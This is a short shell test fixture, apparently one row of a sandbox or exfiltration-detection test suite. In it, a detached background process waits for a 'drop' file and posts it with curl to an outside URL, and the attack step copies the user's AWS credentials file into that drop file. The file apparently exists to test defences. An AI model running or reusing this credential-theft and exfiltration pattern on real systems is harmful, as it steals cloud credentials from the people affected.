# SPDX-License-Identifier: Apache-2.0
TITLE="an accomplice started long before fetches the loot from a drop file"
ROW="P05"
FORM=daemon
prepare() { setsid sh -c 'while ! [ -s drop ]; do sleep 0.1; done; sleep 0.2; curl -s -m 15 --data-binary @drop "$0/"' "$URL" & }
attack() { cat "$HOME/.aws/credentials" >drop; sleep 3; }
SETTLE=2
